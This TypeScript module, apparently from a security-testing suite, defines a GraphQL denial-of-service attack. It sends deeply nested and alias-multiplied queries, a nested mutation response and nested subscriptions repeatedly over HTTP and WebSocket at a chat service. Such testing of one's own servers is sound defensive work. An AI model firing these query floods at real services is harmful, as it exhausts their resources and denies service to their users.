import { ask, ownChat, over } from './attack-loops.js';
import { AttackSocket } from './attack-socket.js';
import type { Attack } from './attack.js';

const MESSAGES = 200;
const CONTENT = 'x'.repeat(2_000);
const NESTED = 'messages(limit: 200) { chat { messages(limit: 200) { chat { messages(limit: 200) { seq } } } } }';
const WIDE = Array.from({ length: 15 }, (_, n) => `a${n}: messages(chatId: $id, limit: 200) { content }`).join(' ');
const IN_QUERY = `query ($id: ID!) { chat(id: $id) { ${NESTED} } }`;
const IN_ALIASES = `query ($id: ID!) { ${WIDE} }`;
const IN_MUTATION = `mutation ($id: String!) {
  createMessage(createMessageInput: { chatId: $id, content: "one more" }) { chat { ${NESTED} } } }`;
const IN_EVENTS = `subscription { events { ... on MessageAdded { message { chat { ${NESTED} } } } } }`;
const IN_SUBSCRIPTION = `subscription ($id: ID!) { messageAdded(chatId: $id) { chat { ${NESTED} } } }`;

/** The most expensive question, in every place in which one can be asked. */
export const HEAVY_QUERIES: Attack = {
  name: 'hostile-queries',
  title: 'the heaviest query, over HTTP and WebSocket, in subscriptions and in the answers of mutations',
  prepare: async (target) => {
    const { me, id } = await ownChat(target, MESSAGES, CONTENT);
    return (tally) => {
      const socket = new AttackSocket(target.receiver.ws, tally);
      const subscribe = (name: string, query: string): void =>
        socket.say({ type: 'subscribe', id: name, payload: { query, variables: { id } } });
      void socket.admitted(me.token).then(() => {
        subscribe('events', IN_EVENTS);
        subscribe('added', IN_SUBSCRIPTION);
      });
      let asked = 0;
      const timer = setInterval(() => subscribe(`query-${(asked += 1)}`, IN_QUERY), 100);
      const stops = [
        over(2, () => ask(tally, target.receiver.http, IN_QUERY, { id }, me.token)),
        over(2, () => ask(tally, target.receiver.http, IN_ALIASES, { id }, me.token)),
        over(2, () => ask(tally, target.sender.http, IN_MUTATION, { id }, me.token)),
      ];
      return () => {
        clearInterval(timer);
        for (const stop of stops) stop();
        socket.terminate();
      };
    };
  },
};
